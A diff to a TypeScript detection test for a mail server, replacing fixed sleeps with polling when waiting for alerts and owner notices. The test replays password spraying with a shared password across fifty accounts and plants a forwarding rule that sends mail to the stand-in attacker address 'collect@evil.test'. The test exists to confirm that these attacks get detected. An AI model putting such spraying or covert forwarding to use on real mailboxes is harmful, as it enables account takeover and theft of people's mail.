@@ -16,6 +16,7 @@ import { openApp } from '../../src/main.ts';
 import { localAdminContext } from '../../src/services/admin.ts';
 import { RawImap } from '../helpers/imap.ts';
 import { cli, cliOk, makeDataDir, type RunningServer, startServer, tamperAudit } from '../helpers/server.ts';
+import { until } from '../helpers/wait.ts';
 
 const SPRAYED = 'Spring2026!';
 const ACCOUNTS = Array.from({ length: 50 }, (_, i) => `user${String(i + 1).padStart(2, '0')}@example.test`);
@@ -220,11 +221,9 @@ describe('replay: spraying, mailbox theft over IMAP and JMAP, a forwarding rule'
       body: JSON.stringify({ targets: ['collect@evil.test'], keepCopy: true }),
     });
     assert.equal(put.status, 204, await put.text());
-    await new Promise((r) => setTimeout(r, 500));
-    const persistence = alerts().find(
-      (a) => a.kind === 'persistence' && a.detail.action === 'mail.forward.set',
+    const persistence = await until('the forward to be alerted', async () =>
+      alerts().find((a) => a.kind === 'persistence' && a.detail.action === 'mail.forward.set'),
     );
-    assert.ok(persistence, 'the forward is alerted');
     assert.equal(persistence.severity, 'high');
     assert.equal(persistence.account, WEAK[0]);
     assert.equal(persistence.detail.external, 'collect@evil.test');
@@ -239,7 +238,10 @@ describe('replay: spraying, mailbox theft over IMAP and JMAP, a forwarding rule'
     });
     await imap.connect();
     await imap.mailboxOpen('INBOX');
-    const notices = (await imap.search({ subject: 'forwarded' })) || [];
+    const notices = await until('the notice to the owner', async () => {
+      const found = await imap.search({ subject: 'forwarded' });
+      return found && found.length > 0 ? found : undefined;
+    });
     assert.equal(notices.length, 1);
     const notice = await imap.fetchOne(String(notices[0]), { source: true });
     assert.ok(notice);
